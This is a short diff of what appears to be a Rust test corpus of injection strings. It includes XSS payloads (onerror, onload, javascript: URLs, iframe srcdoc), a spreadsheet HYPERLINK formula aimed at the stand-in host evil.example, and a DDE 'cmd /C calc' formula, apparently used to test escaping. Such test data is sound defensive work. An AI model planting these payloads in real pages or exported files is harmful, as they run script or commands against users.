@@ -16,7 +16,7 @@ pub(crate) const CORPUS: [&str; 12] = [
     "\"><img src=x onerror=pwned('@')>",
     "'\"></title></textarea></style></script><svg/onload=pwned('@')>",
     "javascript:pwned('@')//<a href=\"javascript:pwned()\">@</a>",
-    "--><!-- ]]> <iframe srcdoc=\"&lt;script&gt;pwned('@')\"></iframe>",
+    "--> ]]> <iframe srcdoc=\"&lt;script&gt;pwned('@')\"></iframe>",
     "</summary></entry><script xmlns=\"http://www.w3.org/1999/xhtml\">pwned('@')</script>",
     "=HYPERLINK(\"http://evil.example/@\",\"@\")",
     "+cmd|' /C calc @'!A0",
